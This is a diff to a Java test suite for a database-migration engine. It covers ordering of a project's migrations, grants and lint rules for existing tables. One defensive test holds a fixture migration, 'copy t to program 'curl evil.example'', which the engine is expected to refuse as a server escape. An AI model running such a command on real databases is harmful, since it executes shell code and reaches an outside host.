@@ -7,6 +7,7 @@ import dev.backendteam.contract.Contract;
 import dev.backendteam.contract.Evidence;
 import dev.backendteam.contract.EvidenceStatus;
 import dev.backendteam.contract.FailureKind;
+import dev.backendteam.contract.FileInput;
 import dev.backendteam.contract.Finding;
 import dev.backendteam.contract.JobInputs;
 import dev.backendteam.contract.Json;
@@ -21,6 +22,7 @@ import dev.backendteam.dbarchitect.engine.lint.MigrationLinter;
 import dev.backendteam.dbarchitect.engine.proof.MigrationProver;
 import dev.backendteam.dbarchitect.engine.proof.Proof;
 import dev.backendteam.dbarchitect.engine.proof.ProofPlan;
+import dev.backendteam.dbarchitect.engine.proof.TableAccess;
 import dev.backendteam.dbarchitect.engine.spec.DomainSpecReader;
 import org.junit.jupiter.api.Test;
 
@@ -112,8 +114,8 @@ class DbArchitectEngineTest {
                 .toList();
         assertEquals(List.of(MigrationProver.APPLY, MigrationProver.CATALOG_PRIMARY_KEYS,
                 MigrationProver.CATALOG_FOREIGN_KEY_INDEXES, MigrationProver.CATALOG_TIMESTAMPTZ,
-                MigrationProver.CATALOG_UPDATED_AT_TRIGGERS, MigrationProver.DOWN, MigrationProver.UP_AGAIN),
-                proofs.stream().map(Evidence::check).toList());
+                MigrationProver.CATALOG_UPDATED_AT_TRIGGERS, MigrationProver.CATALOG_GRANTS, MigrationProver.DOWN,
+                MigrationProver.UP_AGAIN), proofs.stream().map(Evidence::check).toList());
         assertTrue(proofs.stream().allMatch(e -> e.status() == EvidenceStatus.NOT_RUN && !e.passed()
                 && e.details().contains("no sandbox is configured")), proofs.toString());
         assertTrue(finding(outcome, "proof.not-run").message().contains("nothing here is proven by execution"));
@@ -165,7 +167,7 @@ class DbArchitectEngineTest {
         assertEquals("sql: posts.title", varchar.object());
         assertTrue(varchar.fix().startsWith("Use text"));
         assertTrue(finding(outcome, "input.sql-reviewed").message().startsWith("SQL of 2 statement(s) reviewed"));
-        assertTrue(prover.plans.get(0).baseline().startsWith("create table posts"), "the SQL is what gets proven");
+        assertTrue(prover.plans.get(0).base().get(0).sql().startsWith("create table posts"), "the SQL is what gets proven");
     }
 
     @Test
@@ -233,7 +235,8 @@ class DbArchitectEngineTest {
         assertTrue(outcome.artifacts().get(1).content().contains("account_id bigint not null"));
         assertEquals(2, outcome.findings().stream().filter(f -> f.ruleId().equals("design.table-exists")).count());
         ProofPlan plan = prover.plans.get(0);
-        assertEquals("create table account (id bigint generated always as identity primary key);", plan.baseline());
+        assertEquals("create table account (id bigint generated always as identity primary key);",
+                plan.base().get(0).sql());
         assertEquals(List.of("create_post", "create_set_updated_at_function", "create_comment"), plan.migrations()
                 .stream().map(Migration::name).toList());
     }
@@ -290,5 +293,86 @@ class DbArchitectEngineTest {
         assertEquals(ResultStatus.SUCCEEDED, outcome.status());
         assertTrue(outcome.evidence().isEmpty());
         assertEquals(List.of("validation.nothing-to-replay"), ruleIds(outcome));
+    }
+
+    /** A project handed in as files: its migrations out of order, a seed, and other files. */
+    private static JobInputs project(String specYaml, String grants) {
+        List<FileInput> files = List.of(
+                new FileInput("supabase/migrations/20240301000000_comment_index.sql",
+                        "create index idx_comment_post_id on public.comment (post_id);"),
+                new FileInput("supabase/seed.sql", "insert into public.post (title) values ('hello');"),
+                new FileInput("package.json", "{}"),
+                new FileInput("supabase/migrations/20240101000000_init.sql", """
+                        create table public.post (id uuid primary key default gen_random_uuid(),
+                          title varchar(200) not null);
+                        create table public.comment (id uuid primary key default gen_random_uuid(),
+                          post_id uuid not null references public.post (id) on delete cascade, body text);
+                        """));
+        return new JobInputs(specYaml == null ? null : DomainSpecReader.read(specYaml), null, null, null, null, files,
+                null, null, grants);
+    }
+
+    @Test
+    void theProjectsMigrationsAreTheBaseInTheirOrderLintedAsExistingAndNeverDelivered() {
+        StepOutcome outcome = engine.work(task(TaskKind.WORK, project("""
+                entities:
+                  - { name: reaction, belongsTo: comment, owner: true, fields: { emoji: text! } }
+                """, "legacy"), List.of()));
+        assertEquals(ResultStatus.SUCCEEDED, outcome.status(), outcome.reason());
+        ProofPlan plan = prover.plans.get(0);
+        assertEquals(List.of("supabase/migrations/20240101000000_init.sql",
+                "supabase/migrations/20240301000000_comment_index.sql"), plan.base().stream()
+                .map(ExistingSchema.Script::source).toList(), "applied first, in the CLI's order, without the seed");
+        assertEquals("legacy", plan.grants(), "the job's grant model reaches the proof");
+        assertEquals(List.of("public.reaction"), plan.access().stream().map(TableAccess::table).toList());
+        assertTrue(outcome.artifacts().stream().noneMatch(a -> a.name().contains("init")
+                || a.name().contains("comment_index")), "the project's migrations are not delivered again");
+        assertTrue(outcome.artifacts().stream().anyMatch(a -> a.content() != null
+                && a.content().contains("references public.comment (id)")), "the spec builds on the base's tables");
+        assertTrue(outcome.findings().stream().noneMatch(f -> f.ruleId().equals("lint.varchar")),
+                "the project's history is not relinted as this job's findings");
+        assertTrue(finding(outcome, "input.base-migrations").message().startsWith("the project's 2 existing"));
+
+        engine.validate(task(TaskKind.VALIDATE, project(null, null), outcome.artifacts()));
+        assertEquals(plan.base(), prover.plans.get(1).base(), "the validation round replays the same base");
+    }
+
+    @Test
+    void aChangeToATableOfTheBaseTripsTheSafetyRulesForExistingObjects() {
+        JobInputs inputs = project(null, null);
+        List<Artifact> bundle = List.of(Artifact.migration("post_body", "set lock_timeout = '5s';\n"
+                + "set statement_timeout = '60s';\nalter table public.post add column body text not null;", null,
+                Specialist.DB_ARCHITECT));
+        StepOutcome outcome = engine.validate(task(TaskKind.VALIDATE, inputs, bundle));
+        assertEquals(ResultStatus.FAILED, outcome.status());
+        assertEquals("post_body: public.post.body", finding(outcome, MigrationLinter.NOT_NULL_WITHOUT_DEFAULT)
+                .object());
+        List<Artifact> created = List.of(Artifact.migration("post_body", "set lock_timeout = '5s';\n"
+                + "set statement_timeout = '60s';\ncreate table if not exists public.post (id uuid primary key);\n"
+                + "alter table public.post add column body text not null;", "drop table if exists public.post;",
+                Specialist.DB_ARCHITECT));
+        assertTrue(ruleIds(engine.validate(task(TaskKind.VALIDATE, JobInputs.empty(), created)))
+                .stream().noneMatch(MigrationLinter.NOT_NULL_WITHOUT_DEFAULT::equals),
+                "without the base, the same statement on a table created in the same migration is exempt");
+
+        List<Artifact> foreignKey = List.of(Artifact.migration("comment_post_fk", "set lock_timeout = '5s';\n"
+                + "set statement_timeout = '60s';\nalter table public.comment add constraint comment_post_fk foreign"
+                + " key (post_id) references public.post (id) on delete cascade not valid;\nalter table"
+                + " public.comment validate constraint comment_post_fk;", null, Specialist.DB_ARCHITECT));
+        assertTrue(ruleIds(engine.validate(task(TaskKind.VALIDATE, inputs, foreignKey))).stream()
+                .noneMatch(MigrationLinter.FK_WITHOUT_INDEX::equals), "the base's index on comment.post_id counts");
+        assertTrue(ruleIds(engine.validate(task(TaskKind.VALIDATE, JobInputs.empty(), foreignKey))).stream()
+                .anyMatch(MigrationLinter.FK_WITHOUT_INDEX::equals), "without the base nothing indexes it");
+    }
+
+    @Test
+    void aBaseMigrationThatReachesOutsideTheDatabaseIsRefusedBeforeAnythingRuns() {
+        JobInputs inputs = new JobInputs(null, null, null, null, null, List.of(new FileInput(
+                "supabase/migrations/001_init.sql", "create table t (id bigint primary key);\n"
+                + "copy t to program 'curl evil.example';")), null, null);
+        StepOutcome outcome = engine.work(task(TaskKind.WORK, inputs, List.of()));
+        assertEquals(FailureKind.INVALID_INPUT, outcome.failureKind());
+        assertEquals(2, finding(outcome, MigrationLinter.SERVER_ESCAPE).line());
+        assertTrue(prover.plans.isEmpty(), "nothing was sent to the sandbox");
     }
 }
